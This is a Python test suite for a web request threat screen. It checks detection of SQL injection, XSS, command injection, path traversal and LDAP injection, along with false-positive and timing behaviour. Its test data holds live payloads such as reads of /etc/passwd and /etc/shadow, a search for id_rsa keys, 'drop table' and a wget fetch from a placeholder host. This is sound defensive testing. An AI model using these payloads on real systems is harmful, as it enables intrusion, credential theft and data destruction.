"""The screen: near-certain attacks are found, prose and everyday values are not, and no text makes it slow."""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from time import thread_time
from urllib.parse import quote

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from wsgi_guard.settings.sections import THREATS
from wsgi_guard.validation.threats import disguise, files, markup, scripts, shellsigns, sqlsigns, traversal
from wsgi_guard.validation.threats.budget import Budget
from wsgi_guard.validation.threats.classes import CLASSES
from wsgi_guard.validation.threats.evidence import THRESHOLDS
from wsgi_guard.validation.threats.normalise import decoded
from wsgi_guard.validation.threats.rules import Rule
from wsgi_guard.validation.threats.screen import CROWDED, FINDERS, is_plain, screen

from .attacks import ATTACKS, COUNTS
from .innocent import COUNT, INNOCENT
from .mentions import COUNTS as MENTIONED
from .mentions import MENTIONS


@pytest.mark.parametrize("kind", ATTACKS)
def test_attacks_are_found(kind: str) -> None:
    assert [value for value in ATTACKS[kind] if [one.kind for one in screen(value, (kind,))] != [kind]] == []


def test_ordinary_text_is_left_alone() -> None:
    assert [(value, found) for value in INNOCENT if (found := screen(value, CLASSES))] == []


@pytest.mark.parametrize("kind", MENTIONS)
def test_who_speaks_of_an_attack_makes_none(kind: str) -> None:
    assert [(value, found) for value in MENTIONS[kind] if (found := screen(value, CLASSES))] == []


# What the mentions become where a machine is meant.
MEANT = (
    "/bin/bash -c id", ";/bin/bash", "/usr/bin/id", "x\ncat /etc/shadow", "x\nfind / -name id_rsa", "x\nls -la",
    ";wh``oami", "1;c``at /etc/passwd", "sleep(5)", "sleep(5)-- is a function", "1 and sleep(5)",
    "pg_sleep(5) from users where id=1", "pg_sleep(5) union select a from b", "benchmark(9999999,md5(1)) or 1=1",
    "'; exec xp_cmdshell net user x", "extractvalue(1,concat(0x7e,version())) from dual", "/etc/passwd",
    "page=/etc/passwd", "include('/etc/passwd')", "<x y='/etc/passwd'>", "../../etc/passwd is a file",
    "onload=alert(1)", ";onerror=x.y(1)", '" onfocus=x', "x' onload='y", "a=b onload=fetch(1)", "*))", "x*)(cn=*)",
    "*()|&'", "a|id", "x|date", "\\\\host\\x\\shell.php", "\\\\host@8080\\dav\\x", "\\\\?\\unc\\host\\x",
    "bash -c id", "sh -c whoami", "/bin/sh -c reboot", "x)(&(a=b))", "x) (&mail=a*)", "a | tr -d b",
    "/etc/nginx/nginx.conf", "`cat /etc/passwd`", "x`ls -la`", "x `cat /etc/passwd`", "1 `wget http://a.example/x`",
    "`ls -la`", "a`id`b",
)  # fmt: skip


def test_what_is_meant_for_a_machine_is_found_all_the_same() -> None:
    assert [value for value in MEANT if not screen(value, CLASSES)] == []
    assert len(MEANT) == 47
    # What is everyday in an office and looks for nothing but a machine is told at the second level.
    assert screen("\\\\host\\share\\x", CLASSES, THRESHOLDS[2])


def test_tables_are_whole() -> None:
    assert {kind: len(values) for kind, values in ATTACKS.items()} == COUNTS
    assert len(INNOCENT) == COUNT
    assert {kind: len(values) for kind, values in MENTIONS.items()} == MENTIONED
    assert tuple(FINDERS) == tuple(ATTACKS) == CLASSES == THREATS
    assert sum(COUNTS.values()) > 700
    assert COUNT > 450


def test_only_the_wanted_classes_are_looked_for() -> None:
    assert screen("<script>", ("sqli", "cmdi")) == []
    assert [(one.kind, one.rule) for one in screen("<script>", ("sqli", "xss"))] == [("xss", "script-tag")]
    assert screen("<script>", ()) == []


DISGUISES: dict[str, Callable[[str], str]] = {
    "upper case": str.upper,
    "percent": lambda value: "".join(f"%{byte:02x}" for byte in value.encode()),
    "percent twice": lambda value: quote(quote(value, safe=""), safe=""),
    "percent thrice": lambda value: quote(quote(quote(value, safe=""), safe=""), safe=""),
    "percent u": lambda value: "".join(f"%u{ord(char):04X}" for char in value),
    "full width": lambda value: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in value),
}


@pytest.mark.parametrize("name", DISGUISES)
def test_encodings_hide_nothing(name: str) -> None:
    chosen = {
        "sqli": ("' or 1=1--", "1 union select 1,2,3", "'; drop table users;--"),
        "xss": ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
        "cmdi": ("; cat /etc/passwd", "| whoami", "$(id)"),
        "traversal": ("../../etc/passwd", "..\\..\\boot.ini"),
        "ldap": ("*)(uid=*", "admin)(&)"),
        "header": ("x\r\nset-cookie: a=b",),
    }
    for kind, values in chosen.items():
        for value in values:
            assert screen(DISGUISES[name](value), (kind,)), (kind, value)


def test_documents_in_base64_are_opened_once() -> None:
    assert screen("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ("xss",))
    assert screen("JyBvciAxPTEtLQ==", ("sqli",))
    assert screen("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAA=", CLASSES) == []


QUOTED = (
    ("The injection was `' or 1=1 --` in the form of the old site, and it is gone.", "' or 1=1 --"),
    ("To see the log run this:\n\n```\nsudo x && rm -rf /tmp/x\n```\n", "sudo x && rm -rf /tmp/x"),
    ("Then it says:\n\n```html\n<script src='app.js'></script>\n```\n", "<script src='app.js'></script>"),
    ("We wrote `; cat /srv/x.txt` on the board in that room.", "; cat /srv/x.txt"),
)


def test_a_quotation_weighs_less_than_the_same_as_a_value() -> None:
    assert [text for text, attack in QUOTED if screen(text, CLASSES) or not screen(attack, CLASSES)] == []
    assert len(QUOTED) == 4
    # What could only be meant to run is found in quotations too.
    assert screen("See:\n\n```html\n<script>alert(document.cookie)</script>\n```\n", ("xss",))


def test_levels_ask_for_less_and_less() -> None:
    assert THRESHOLDS[1] > THRESHOLDS[2] > THRESHOLDS[3] > 0
    for level in (1, 2, 3):
        found = [value for value in ("x';", "a;id;b") if screen(value, CLASSES, THRESHOLDS[level])]
        assert (found != []) == (level > 1)
    for values in ATTACKS.values():
        assert all(screen(value, CLASSES, THRESHOLDS[3]) for value in values)


# What attacks are made of, glued together at random: the gate must not pass what a rule would match.
PIECES = st.sampled_from([
    "union", "select", "or", "and", "not", "1", "12", "null", "from", "sleep", "users", "order", "by", "having",
    "like", "in",
    "waitfor", "delay", "exec", "script", "javascript", "on", "onerror", "alert", "cat", "id", "ls", "etc", "passwd",
    "..", ".",
    ",", ":", "-", "--", "@@", "@", "version", "_", "objectclass", "data", "win.ini", "\u2474", "\uff55nion",
    "\uff53elect", "\u00bd", "\u00e9", "'", "'s", "x'y", "o'", "t'or", "n'like",
])  # fmt: skip


@settings(max_examples=500)
@given(st.lists(PIECES, max_size=10), st.sampled_from(["", " "]))
@example(["1", "union", "select", "null", ",", "12"], " ")
def test_plain_text_matches_no_rule(pieces: list[str], between: str) -> None:
    value = between.join(pieces)
    if is_plain(value):
        text = decoded(value)
        hits = [FINDERS[kind](text, Budget(len(text))) for kind in CLASSES]
        assert [hit for hit in hits if hit is not None and hit.score >= THRESHOLDS[1]] == []


@pytest.mark.parametrize(("value", "plain"), [
    ("O'Brien", True), ("St James's Square 12", True), ("don't, we'll, they've", True), ("L'Oreal", True),
    ("James' Square", False), ("'quoted'", False), ("x'or 1", False), ("a'like b", False), ("w'h'oami", False),
    ("x'", False), ("'x", False), ("1'1", False), ("un'ion-x select", False), ("it's -- so", False),
])  # fmt: skip
def test_an_apostrophe_inside_a_word_is_no_quote(value: str, plain: bool) -> None:
    assert is_plain(value) == plain


ALL_RULES: tuple[Rule, ...] = (
    *markup.RULES, *scripts.RULES, *shellsigns.RULES.all, *disguise.RULES.all, *sqlsigns.RULES.all,
    *traversal.CLIMBS.all, *traversal.ON_TEXT.all, *files.KNOWN.all,
)  # fmt: skip


def has_word(rule: Rule, text: str) -> bool:
    return any(word in text for word in rule.words) and (rule.counted is None or rule.counted.search(text) is not None)


@settings(max_examples=300)
@given(st.sampled_from([value for values in ATTACKS.values() for value in values]), st.data())
def test_a_rule_matches_only_where_its_words_are(value: str, data: st.DataObject) -> None:
    """The words are the cheap first look: what they let pass no pattern may match."""
    at = data.draw(st.integers(0, len(value)))
    text = decoded(value[:at] + data.draw(st.sampled_from(["", " ", "/**/", "\x00", "x"])) + value[at:])
    matching = [rule for rule in ALL_RULES if any(pattern.search(text) for pattern in rule.patterns)]
    assert [rule.name for rule in matching if not has_word(rule, text)] == []


@settings(max_examples=50)
@given(
    st.sampled_from([
        "<script>alert(1)</script>", "<img src=x onerror=x()>", "x' or 1=1--", "1' union select 1,2,3--",
        "; cat /etc/passwd", "php://filter/x", "'; drop table users--",
    ]),
    st.integers(0, 9000),
    st.integers(0, 9000),
)  # fmt: skip
def test_length_hides_nothing(attack: str, before: int, after: int) -> None:
    value = "lorem ipsum " * (before // 12) + attack + " dolor sit" * (after // 10)
    assert screen(value, CLASSES)


def test_a_spent_budget_is_a_finding() -> None:
    budget = Budget()
    budget.left = 0
    found = screen("<script>", CLASSES, budget=budget)
    assert [(one.rule, one.score) for one in found] == [(CROWDED, THRESHOLDS[1])]


def test_what_was_found_before_the_budget_was_spent_stands() -> None:
    costly = "<script>alert(1)</script>" + "'or'" * 2000
    for left in range(0, 3_000_000, 50_000):
        budget = Budget()
        budget.left = left
        found = screen(costly, ("xss", "sqli"), budget=budget)
        assert {one.rule for one in found} == {CROWDED} or found[0].kind == "xss"


@given(st.text("\u2474\u00bd\u212b\ufb01\uff41\u3400\u00e9\u0430 ab1._-", max_size=30))
def test_plain_text_stays_plain_in_compatibility_form(value: str) -> None:
    if is_plain(value):
        assert is_plain(unicodedata.normalize("NFKC", value))


@given(st.text() | st.lists(PIECES | st.text("'\"<>()=;|&`$\\/%*#\n ", max_size=3), max_size=20).map("".join))
def test_any_text_is_judged(value: str) -> None:
    screen(value, CLASSES)


# Each rule is pumped with what its repetitions feed on. 64 KiB must take milliseconds; a quadratic rule takes minutes.
SEEDS = (
    "'", '"', "`", ")", "(", " ", "\t", "\n", ";", ",", "|", "&", "=", "<", ">", "/", "\\", "%", "#", "-", "*", "+",
    "$", "{", ".", "\x00", "a", "1",
    "' or ", "'or'", "1 or ", "') ", "' (", "1)", "1;", "/*", "*/", "/**/", "/*!", "--", "union ", "select ",
    "select from ", "union select ",
    "<a ", "<a", "<img ", "< ", "<svg/", "<style", "style=", "on", "onerror", "onerror ", " on", "on=", "<!--", "<?",
    "&lt;", "&#60;", "&amp;", "\\u003c",
    "javascript:", "data:", "script", ";cat", "; cat ", "| id", "$(", "${", "{cat,", "cmd ", "`id ", "$ifs", "''",
    "a''", "../", "..;/", ".../", "/./",
    "etc/", "proc/1", "/etc/", "%2e", "%25", "%u0027", "%c0%ae", "*)", ")(", "*)(", ")(a", "objectclass ",
    "objectclass=", "waitfor ", "x_", "@@", "0x", "é", "＜",
)  # fmt: skip
PREFIXES = ("", "'", "<a ")


@pytest.mark.parametrize("prefix", PREFIXES)
def test_time_grows_with_length_alone(prefix: str) -> None:
    slow = []
    for seed in SEEDS:
        value = (prefix + seed * 65_536)[:65_536]
        for kind in CLASSES:
            begin = thread_time()
            screen(value, (kind,))
            if thread_time() - begin > 2:
                slow.append((kind, seed))
    assert slow == []
    assert len(SEEDS) == 99
